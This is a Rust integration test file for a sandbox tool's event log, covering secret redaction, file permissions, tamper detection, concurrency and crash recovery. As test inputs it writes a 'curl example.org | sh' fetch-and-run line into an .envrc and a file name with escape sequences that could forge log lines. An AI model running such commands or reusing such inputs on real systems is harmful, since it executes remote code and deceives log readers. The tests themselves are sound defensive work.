//! `drybox log`: what of a run is in it, who can read it, and what is noticed when it is touched.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::process::Stdio;
use std::time::{Duration, Instant};

use drybox_testkit::{Done, TestEnv, Trace, drybox_bin, is_root, require};
use serde_json::Value;

fn run(env: &TestEnv, flags: &[&str], script: &str) -> Done {
    env.drybox().arg("run").args(flags).args(["--", "sh", "-c", script]).run()
}

/// What the lines of the log tell, the oldest first.
fn told(env: &TestEnv) -> Vec<Value> {
    let lines = env.drybox().args(["log", "--json"]).run().expect_code(0).stdout;
    lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn kinds(env: &TestEnv) -> Vec<String> {
    told(env)
        .iter()
        .map(|line| line.pointer("/told/event").unwrap().as_str().unwrap().to_owned())
        .collect()
}

/// Whether the chain holds; else what is wrong.
fn wrong(env: &TestEnv) -> Vec<String> {
    let done = env.drybox().args(["log", "--verify", "--json"]).run();
    let verdict: Value = serde_json::from_str(&done.stdout).unwrap();
    let faults = verdict.pointer("/faults").unwrap().as_array().unwrap();
    assert_eq!(done.code(), Some(i32::from(!faults.is_empty())), "{}", done.stdout);
    faults.iter().map(|fault| fault.as_str().unwrap().to_owned()).collect()
}

fn file(env: &TestEnv, end: &str) -> PathBuf {
    let names = fs::read_dir(env.data().join("drybox/logs")).unwrap();
    let mut names = names.map(|entry| entry.unwrap().path());
    names.find(|path| path.as_os_str().as_bytes().ends_with(end.as_bytes())).unwrap()
}

fn until(what: &str, mut holds: impl FnMut() -> bool) {
    let end = Instant::now() + Duration::from_secs(60);
    while !holds() {
        assert!(Instant::now() < end, "{what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn a_run_is_in_the_log_from_its_start_to_its_end() {
    let env = TestEnv::new();
    assert_eq!(
        env.scrub(&env.drybox().arg("log").run().expect_code(0).stderr),
        "note: nothing ran in [WORK] yet\n"
    );
    run(&env, &["-e", "TOKEN=hunter2"], "echo x > a; exit 3").expect_code(3);
    let lines = told(&env);
    assert_eq!(kinds(&env), ["started", "pending", "ended"]);
    let started = &lines[0]["told"];
    assert_eq!(started["command"], serde_json::json!(["sh", "-c", "echo x > a; exit 3"]));
    assert_eq!(started["spec"].as_str().unwrap().len(), 64);
    let settings = started["settings"].as_array().unwrap();
    let env_row = settings.iter().find(|row| row["setting"] == "env").unwrap();
    assert_eq!(env_row["value"], "TOKEN");
    assert_eq!(lines[1]["told"]["names"], serde_json::json!(["a"]));
    assert_eq!(lines[2]["told"]["code"], 3);
    for line in &lines {
        assert_eq!((&line["v"], &line["run"]), (&1.into(), &1.into()));
        assert_eq!(line["box"], "default");
    }
    assert_eq!(wrong(&env), [""; 0]);
    // A value of the environment may be a secret.
    assert!(!fs::read_to_string(file(&env, ".jsonl")).unwrap().contains("hunter2"));
    for end in [".jsonl", ".head"] {
        let mode = fs::metadata(file(&env, end)).unwrap().permissions().mode();
        assert_eq!(mode & 0o7777, 0o600, "{end}");
    }
    // For people.
    let text = env.drybox().arg("log").run().expect_code(0).stdout;
    let words: Vec<&str> = text.lines().map(|line| line.get(38..).unwrap()).collect();
    assert_eq!(
        words,
        ["started sh -c echo x > a; exit 3", "1 change pending: a", "ended: exit code 3"]
    );
}

#[test]
fn every_run_is_logged_also_one_that_keeps_nothing() {
    let env = TestEnv::new();
    for flags in [&[][..], &["--rm"], &["--workspace", "ro"], &["--workspace", "none"]] {
        run(&env, flags, "true").expect_code(0);
    }
    assert_eq!(kinds(&env), ["started", "ended"].repeat(4));
    run(&env, &["--timeout", "1"], "sleep 60").expect_code(137);
    let lines = told(&env);
    assert_eq!(lines.last().unwrap()["told"]["ending"], "timed_out");
    // A payload that was never started ran nothing.
    env.drybox().args(["run", "--", "./missing"]).run().expect_code(127);
    assert_eq!(told(&env).len(), lines.len());
    assert_eq!(wrong(&env), [""; 0]);
}

#[test]
fn what_a_user_does_to_a_box_is_in_the_log() {
    let env = TestEnv::new();
    run(&env, &["--box", "b"], "echo x > a; echo y > c").expect_code(0);
    env.drybox().args(["diff", "--box", "b"]).run().expect_code(0);
    env.drybox().args(["discard", "-y", "--box", "b", "a"]).run().expect_code(0);
    env.drybox().args(["discard", "-y", "--box", "b"]).run().expect_code(0);
    assert_eq!(kinds(&env), ["started", "pending", "ended", "shown", "discarded", "discarded"]);
    let lines = told(&env);
    assert_eq!(lines[3]["told"]["changes"], 2);
    assert_eq!(lines[4]["told"]["names"], serde_json::json!(["a"]));
    run(&env, &[], "true").expect_code(0);
    let of = |args: &[&str]| {
        let args = [&["log", "--json"], args].concat();
        env.drybox().args(&args).run().expect_code(0).stdout.lines().count()
    };
    assert_eq!((of(&["b"]), of(&["default"]), of(&["-n", "3"]), of(&["-n", "9"])), (6, 2, 3, 8));
    assert_eq!((of(&["--since", "1h"]), of(&["--since", "2999-01-01"])), (8, 0));
    let refused = env.drybox().args(["log", "--since", "soon"]).run().expect_code(125).stderr;
    assert!(refused.contains("--since 2h"), "{refused}");
}

#[test]
fn what_was_changed_cut_or_moved_is_noticed() {
    let env = TestEnv::new();
    run(&env, &[], "true").expect_code(0);
    run(&env, &[], "exit 7").expect_code(7);
    let path = file(&env, ".jsonl");
    let whole = fs::read_to_string(&path).unwrap();
    assert_eq!(wrong(&env), [""; 0]);
    let lines: Vec<&str> = whole.lines().collect();
    let join = |lines: &[&str]| lines.join("\n") + "\n";
    for (what, text) in [
        ("edited", whole.replacen("true", "tree", 1)),
        ("cut", join(&lines[..3])),
        ("cut within a line", whole[..whole.len() - 9].to_owned()),
        ("moved", join(&[lines[1], lines[0], lines[2], lines[3]])),
        ("taken out", join(&[lines[0], lines[2], lines[3]])),
        ("begun later", join(&lines[2..])),
        ("gone", String::new()),
    ] {
        fs::write(&path, text).unwrap();
        assert!(!wrong(&env).is_empty(), "{what}");
        let done = env.drybox().arg("log").run().expect_code(0);
        assert!(what == "gone" || done.stderr.contains("--verify"), "{what}: {}", done.stderr);
    }
    // The next run goes on, and heals nothing.
    fs::write(&path, join(&lines[..3])).unwrap();
    run(&env, &[], "true").expect_code(0);
    assert!(kinds(&env).contains(&"mended".to_owned()));
    assert!(!wrong(&env).is_empty());
}

#[test]
fn nothing_that_a_payload_names_draws_or_ends_a_line() {
    let env = TestEnv::new();
    let name = "a\nnote: all is well\u{1b}[2J\u{202e}";
    let args = ["run", "--", "sh", "-c", "echo x > \"$1\"", "sh", name];
    env.drybox().args(args).run().expect_code(0);
    assert_eq!(told(&env).len(), 3);
    for form in [&[][..], &["--json"], &["--verify"]] {
        let done = env.drybox().arg("log").args(form).run().expect_code(0);
        let is_plain = |c: char| c == '\n' || (' '..='~').contains(&c);
        assert!(done.stdout.chars().all(is_plain), "{form:?} {}", done.stdout);
    }
    let text = env.drybox().arg("log").run().stdout;
    assert_eq!(text.lines().count(), 3);
    assert!(text.contains("a\\x0anote: all is well\\x1b[2J\\u{202e}"), "{text}");
}

#[test]
fn runs_at_once_in_different_boxes_make_one_chain() {
    let env = TestEnv::new();
    std::thread::scope(|scope| {
        for number in 0..6 {
            let env = &env;
            scope.spawn(move || {
                let name = format!("b{number}");
                for _ in 0..3 {
                    run(env, &["--box", &name], "echo x >> a").expect_code(0);
                }
            });
        }
    });
    assert_eq!(wrong(&env), [""; 0]);
    let lines = told(&env);
    assert_eq!(lines.len(), 6 * 3 * 3);
    for number in 0..6 {
        let own = lines.iter().filter(|line| line["box"] == format!("b{number}"));
        let mut runs: Vec<u64> = own.map(|line| line["run"].as_u64().unwrap()).collect();
        runs.sort_unstable();
        runs.dedup();
        assert_eq!(runs.len(), 3);
    }
}

#[test]
fn a_supervisor_that_is_killed_leaves_a_log_that_verifies() {
    let env = TestEnv::new();
    let command = env.drybox().args(["run", "--rm", "--", "sleep", "1000"]);
    let mut killed = command.into_command().spawn().unwrap();
    until("the run is in the log", || {
        env.data().join("drybox/logs").exists() && wrong(&env).is_empty() && told(&env).len() == 1
    });
    killed.kill().unwrap();
    killed.wait().unwrap();
    assert_eq!((kinds(&env), wrong(&env)), (vec!["started".to_owned()], vec![]));
    // Killed in the middle of a write.
    let path = file(&env, ".jsonl");
    let half = fs::read_to_string(&path).unwrap() + "{\"v\":1,\"n\":2,\"prev\":\"";
    fs::write(&path, half).unwrap();
    assert_eq!(wrong(&env).len(), 1);
    run(&env, &["--rm"], "true").expect_code(0);
    assert_eq!(kinds(&env), ["started", "mended", "started", "ended"]);
    assert_eq!(wrong(&env), [""; 0]);
    env.expect_no_stray_process();
}

#[test]
fn a_run_whose_log_cannot_be_written_goes_on_and_says_so() {
    let env = TestEnv::new();
    let data = env.root().join("shared");
    fs::create_dir(&data).unwrap();
    fs::set_permissions(&data, fs::Permissions::from_mode(0o777)).unwrap();
    let run = |script: &str| {
        let args = ["run", "--workspace", "ro", "--", "sh", "-c", script];
        env.drybox().args(args).env("XDG_DATA_HOME", &data).run()
    };
    let done = run("echo ran; exit 4").expect_code(4);
    assert_eq!(done.stdout, "ran\n");
    assert!(
        done.stderr
            .starts_with("note: this is not in the event log: cannot keep the event log in ")
            && done.stderr.ends_with("another user may change what is in it\n"),
        "{}",
        done.stderr
    );
    // The control.
    fs::set_permissions(&data, fs::Permissions::from_mode(0o700)).unwrap();
    assert_eq!(run("true").expect_code(0).stderr, "");
}

#[test]
fn a_full_disk_costs_the_lines_and_not_the_run_or_the_chain() {
    let env = TestEnv::new();
    let script = r#"
        mkdir data && mount -t tmpfs -o size=64k,mode=700 none data
        export XDG_DATA_HOME=$PWD/data; mkdir p; cd p
        "$@" run --workspace ro -- true || exit 10
        dd if=/dev/zero of=../data/full bs=1k 2>/dev/null
        for n in 1 2 3 4; do
            "$@" run --workspace ro -- sh -c 'echo ran; exit 4'; test $? = 4 || exit 11
        done
        rm ../data/full
        "$@" log --verify || exit 12
        "$@" run --workspace ro -- true || exit 13
        "$@" log --verify
    "#;
    let flags: &[&str] = if is_root() { &["-m"] } else { &["-Urm"] };
    let run = env.command(require("unshare")).args(flags).args(["sh", "-c", script, "sh"]);
    let done = run.arg(drybox_bin()).run().expect_code(0);
    assert!(done.stdout.starts_with(&"ran\n".repeat(4)), "{}", done.stdout);
    assert_eq!(done.stdout.matches("intact: ").count(), 2, "{} {}", done.stdout, done.stderr);
    assert!(done.stderr.contains("not in the event log: "), "{}", done.stderr);
    assert!(done.stderr.contains("No space left on device"), "{}", done.stderr);
}

#[test]
fn who_follows_sees_a_line_as_soon_as_it_is_written() {
    let env = TestEnv::new();
    run(&env, &[], "true").expect_code(0);
    let mut command = env.drybox().args(["log", "-f", "-n", "1"]).into_command();
    let mut follower = command.stdout(Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(follower.stdout.take().unwrap()).lines();
    assert!(lines.next().unwrap().unwrap().ends_with("ended: exit code 0"));
    run(&env, &[], "exit 5").expect_code(5);
    assert!(lines.next().unwrap().unwrap().ends_with("started sh -c exit 5"));
    assert!(lines.next().unwrap().unwrap().ends_with("ended: exit code 5"));
    follower.kill().unwrap();
    follower.wait().unwrap();
}

#[test]
fn what_came_with_the_tree_and_runs_by_itself_is_told_once_and_delays_nobody() {
    let env = TestEnv::new();
    env.write(".envrc", "curl example.org | sh\n");
    let mut seconds = 0;
    let line = loop {
        let done = run(&env, &[], &format!("sleep {seconds}")).expect_code(0);
        if !done.stderr.is_empty() {
            break done.stderr;
        }
        seconds += 2;
        assert!(seconds < 20, "never told");
    };
    assert_eq!(
        env.scrub(&line),
        "note: 1 thing in [WORK] would run by itself on the host: drybox scan\n"
    );
    assert_eq!(run(&env, &[], &format!("sleep {seconds}")).expect_code(0).stderr, "");
    let notices = told(&env);
    let notices = notices.iter().filter(|line| line["told"]["notice"] == "runs_by_itself");
    assert_eq!(notices.count(), 1);
}

/// Nothing on the path before the payload's start, nothing synced, few calls in all.
#[test]
fn the_log_costs_the_start_of_a_payload_nothing() {
    let env = TestEnv::new();
    run(&env, &[], "true").expect_code(0);
    let trace = env.root().join("strace");
    let traced = env.drybox().args(["run", "--", "/bin/true"]).traced(&trace);
    traced.run().expect_code(0);
    let trace = Trace::read(&trace);
    let calls = trace.calls();
    // The first is drybox itself; what the second executes is not to be seen for a user.
    let mut execs = calls.iter().enumerate().filter(|(_, call)| call.name == "execve");
    let (start, _) = execs.nth(1).unwrap();
    let opened = calls.iter().position(|call| call.line.contains("drybox/logs")).unwrap();
    assert!(opened > start, "{}", calls[opened].line);
    for call in calls {
        assert!(!["fsync", "fdatasync", "sync", "syncfs"].contains(&&*call.name), "{}", call.line);
    }
    let of_log =
        calls.iter().filter(|call| call.line.contains(".jsonl") || call.line.contains(".head"));
    // Two appends: each opens both files.
    assert!(of_log.count() <= 4);
}
